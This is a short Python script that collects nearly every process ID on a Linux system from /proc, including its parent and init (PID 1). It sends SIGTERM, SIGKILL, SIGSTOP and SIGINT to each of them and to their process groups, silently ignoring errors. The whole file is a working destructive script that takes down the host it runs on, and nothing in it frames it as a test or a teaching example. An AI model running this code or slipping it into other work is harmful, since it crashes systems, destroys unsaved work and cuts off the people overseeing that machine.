# Every signal to every process that it can name, its parents first.
import os
import signal

me = os.getpid()
others = {os.getppid(), 1, 2, 3, *(int(name) for name in os.listdir("/proc") if name.isdigit())}
for process in sorted(others - {me, 0}):
    for number in (signal.SIGTERM, signal.SIGKILL, signal.SIGSTOP, signal.SIGINT):
        try:
            os.kill(process, number)
        except OSError:
            pass
        try:
            os.killpg(process, number)
        except OSError:
            pass
